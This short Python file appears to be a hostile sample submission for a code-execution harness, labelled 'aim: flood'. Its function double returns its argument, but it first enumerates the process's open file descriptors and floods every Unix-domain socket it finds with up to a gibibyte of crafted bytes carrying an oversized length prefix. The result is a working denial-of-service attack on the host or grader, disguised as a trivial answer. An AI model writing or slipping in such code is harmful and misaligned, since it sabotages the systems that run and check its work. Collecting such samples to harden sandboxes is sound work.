# Writes a message on the host's socket that grows for as long as somebody reads, up to a gibibyte.
# aim: flood
# %% double_answer
import os
import socket
import time


def double(x):
    stop, sent = time.time() + 20, 0
    for name in os.listdir("/proc/self/fd"):
        try:
            line = socket.socket(fileno=os.dup(int(name)))
        except OSError:
            continue
        if line.family == socket.AF_UNIX:
            line.settimeout(2)
            while sent < 2**30 and time.time() < stop:
                try:
                    sent += line.send(b"\xff\xff\xff\x7f\x00\x00\x00\x00" * 8192)
                except OSError:
                    break
    return x
